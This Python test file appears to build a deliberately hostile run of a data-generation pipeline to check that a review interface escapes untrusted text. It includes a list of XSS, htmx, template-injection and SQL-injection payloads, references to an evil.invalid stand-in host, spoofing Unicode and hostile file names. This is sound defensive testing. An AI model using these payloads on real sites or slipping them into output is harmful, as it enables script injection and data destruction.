"""A campaign whose documents and model are out to run their script in the reviewer's browser."""

from __future__ import annotations

import json
from itertools import pairwise
from pathlib import Path
from typing import Any

from gristmill import Campaign, CampaignReport, Decision, Draft, Item, Message, Request, Scripted, Status, Task, Verdict
from gristmill.review.desk import Desk
from gristmill.storage.records import Call, content_id
from gristmill.storage.reviews import Action
from gristmill.storage.store import RunStore

# Each element of theirs is marked with data-canary, so that one that came alive is found even if nothing of it ran;
# what runs opens a dialog or is stopped by the policy, and both fail the test (see browser.py).
PAYLOADS = (
    "<script data-canary>alert(1)</script>",
    '"><img data-canary src=x onerror=alert(2)>',
    "'><svg data-canary onload=alert(3)>",
    "</textarea></script></title></style><img data-canary src=x onerror=alert(4)>",
    "<a data-canary href='javascript:alert(5)'>click</a>",
    "javascript:alert(6)",
    "<div data-canary hx-get='/evil' hx-trigger='load' data-hx-get='/evil' data-hx-trigger='load'>",
    "<div data-canary hx-on::load='alert(7)' hx-on:click=alert(8) style='color:red'>",
    "<iframe data-canary srcdoc='<script>parent.alert(9)</script>'></iframe>",
    "<style data-canary>@import 'http://evil.invalid/x.css';*{display:none}</style>",
    "<meta data-canary http-equiv=refresh content='0;url=http://evil.invalid/'><base href=http://evil.invalid/>",
    "<form data-canary action=http://evil.invalid><button formaction=javascript:alert(10)>Accept</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img data-canary title='--&gt;&lt;img src=1 onerror=alert(11)&gt;'",
    "<template data-canary><img src=x onerror=alert(12)></template><!-- <canary-element> --><![CDATA[x]]>",
    "<p data-canary id=notices name=csrf class=htmx-indicator></p><input data-canary name=csrf value=stolen>",
    "canary{{7*7}}${7*7}#{7*7}<%= 7*7 %>{% raw %}{{ csrf }}{% include 'base.html' %}",
    "&lt;img data-canary src=x onerror=alert(13)&gt; &#60;script&#62; &amp;quot;",
    "\\u003cimg data-canary src=x onerror=alert(14)\\u003e \\x3cscript\\x3e",
    "\u202egnp.exe\u202c \u2066right\u2069 \u200bzero\u200b\ufeff \u2028 \u2029 \ufff9",
    "\x1b[2J\x1b]0;title\x07\x9b31m\x08\x08 null \x00 end \x7f",
    "W" * 3000,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 " + "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d" * 40,
    "<mark data-canary>seemingly cited</mark><ins data-canary>added</ins><del data-canary>",
    '\'; DROP TABLE items; -- " OR "" = "',
    "[x](javascript:alert(15)) ![y](http://evil.invalid/y.png) <http://evil.invalid>",
)
FILES = ("<img data-canary src=x onerror=alert(20)>.md", "\"'><svg onload=alert(21)>.txt", "\u202etxt.exe{{7*7}}.md")


def all_of(number: int) -> str:
    """Every payload, another one first each time, so that cuts and titles show each of them somewhere."""
    turn = number % len(PAYLOADS)
    return " \n".join((*PAYLOADS[turn:], *PAYLOADS[:turn]))


def answer(request: Request) -> Any:
    """The model: entities, texts, judgements and broken replies, hostile in every field that there is."""
    number = sum(map(ord, str(request.messages[-1].content)))
    one, rest = PAYLOADS[number % len(PAYLOADS)], all_of(number)
    if request.role == "extractor":
        names = [payload.strip() for payload in PAYLOADS[:12]]
        entities = [{"name": name, "type": one, "description": rest, "quote": name} for name in names]
        told = {"type": one, "description": rest}
        relations = [{"source": a, "target": b, "quote": a, **told} for a, b in pairwise(names)]
        return {"entities": entities, "relations": relations}
    if request.role == "critic":
        scores = [{"name": one[:60], "value": 0.5}, {"name": "grounded", "value": 0.4}]
        decision = "revise" if request.prompt.startswith("judge") and number % 2 else "reject"
        return {"decision": decision, "scores": scores, "reasons": [one], "comment": rest, "evidence": [one, rest]}
    if number % 5 == 0:
        return f"no JSON at all: {rest}".encode()
    questions = [{"question": one, "answer": rest}]
    return {
        "title": one,
        "text": f"{number} {rest}",
        "questions": questions,
        "evidence": list(PAYLOADS),
        "summary": rest,
    }


async def hostile_run(folder: Path) -> CampaignReport:
    """Runs the campaign in `folder`; afterwards people have decided on some of its items, as hostile as the rest."""
    documents = folder / "documents"
    documents.mkdir(parents=True)
    for number, name in enumerate(FILES):
        text = "\n\n".join((f"# {PAYLOADS[number]}", *PAYLOADS[number:], *PAYLOADS[:number]))
        (documents / name).write_text(text.replace("\x00", ""), encoding="utf-8")
    model = Scripted(answer, name=PAYLOADS[1], repairs=0)
    report = await Campaign(
        "hostile",
        [documents],
        recipe="entigraph",
        options={"shares": {"entity": 1.0, "pair": 1.0}, "min_words": 1, "max_rounds": 1, "max_chunks": 50},
        models=dict.fromkeys(("extractor", "generator", "critic", "refiner"), model),
        graph={"max_gleanings": 0},
        runs=str(folder / "runs"),
    ).execute()
    store = RunStore.join(report.folder)
    try:
        await add_items(store)
        await decide(store)
    finally:
        await store.close()
    return report


async def add_items(store: RunStore) -> None:
    """Items as a user's own flow may make them: hostile in the fields that the built-in roles keep clean."""
    for number, payload in enumerate(PAYLOADS):
        task = Task.of("chunk", attributes={"kind": payload, payload: payload}, seed=number)
        messages = tuple(Message(role=role, content=all_of(number)) for role in ("system", "user", "assistant", "tool"))
        drafts = tuple(
            Draft(
                index=index,
                by=payload,
                messages=messages[index:],
                model=payload,
                note=all_of(number),
                calls=(Call(key=f"{number}-{index} {payload}", role=payload, prompt=payload[:50], cached=True),),
            )
            for index in range(2)
        )
        judged = {"decision": Decision.REJECT, "reasons": (payload,), "scores": {payload: 0.5}}
        failed = Call(role=payload, prompt=payload, error=payload)
        verdict = Verdict(by=payload, draft=1, text=all_of(number), calls=(failed,), **judged)
        item = Item(
            id=content_id("item", task.id, 0),
            task=task.id,
            kind=payload,
            status=Status.REJECTED,
            reasons=(payload, "ungrounded"),
            messages=messages,
            fields={payload: payload},
            drafts=drafts,
            verdicts=(verdict,),
            attributes={"draw": payload, payload: all_of(number)},
            prompts={payload[:50]: payload},
            models={payload[:50]: payload, payload: payload},
            calls=(Call(key=f"bare {number} {payload}", role=payload),),
        )
        for index, draft in enumerate(drafts):
            await store.put(draft.calls[0].key, reply_of(payload, all_of(number + index)))
        await store.put(item.calls[0].key, all_of(number).encode())
        await store.plan([task])
        await store.finish(task.id, item.status, [item])


def reply_of(payload: str, text: str) -> bytes:
    """A body as a hostile server sends it: script in the text, in the thoughts, and in every word of its own."""
    message = {"role": payload, "content": text, "reasoning_content": text}
    choice = {"index": payload, "message": message, "finish_reason": payload}
    return json.dumps({"id": payload, "model": payload, "choices": [choice, choice], "usage": payload}).encode()


async def decide(store: RunStore) -> None:
    """Decisions with hostile notes, wordings and reasons, by a reviewer with a hostile name."""
    desk = Desk(store)
    items = [id for (id,) in store.rows("SELECT id FROM items ORDER BY id")]
    for number, id in enumerate(items[:12]):
        action = (Action.ACCEPT, Action.REJECT, Action.SEND_BACK, Action.EDIT)[number % 4]
        if action is Action.ACCEPT and not desk.story(id).item.messages:
            action = Action.REJECT
        reviewer, note, reasons = PAYLOADS[number][:100], all_of(number), [PAYLOADS[number]]
        edited = (Message(role="user", content=all_of(number + 1)), Message(role="assistant", content=all_of(number)))
        await desk.decide(id, action, reviewer, note=note, reasons=reasons, messages=edited)
        if number % 5 == 0:
            await desk.decide(id, Action.UNDO, reviewer)
